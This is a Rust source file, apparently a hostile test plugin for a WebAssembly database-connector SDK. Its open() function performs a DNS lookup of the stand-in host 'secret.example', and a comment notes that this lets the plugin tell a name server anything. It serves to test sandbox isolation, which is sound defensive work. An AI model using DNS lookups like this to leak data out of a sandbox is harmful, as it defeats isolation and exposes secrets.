//! Looks up names, which tells a name server whatever it likes.

use datachat_hostile::{Attack, Hostile};
use datachat_sdk::connector::Target;
use datachat_sdk::connector::types::{DbError, ErrorCode};
use datachat_sdk::error::db_error;
use datachat_sdk::wasip2::sockets::instance_network::instance_network;
use datachat_sdk::wasip2::sockets::ip_name_lookup::resolve_addresses;

struct Attacker;

impl Attack for Attacker {
    const NAME: &'static str = "name-lookup";

    fn open(_target: &Target) -> Result<(), DbError> {
        resolve_addresses(&instance_network(), "secret.example")
            .map(drop)
            .map_err(|error| db_error(ErrorCode::Internal, format!("{error:?}")))
    }
}

type Plugin = Hostile<Attacker>;
datachat_sdk::connector::export!(Plugin);
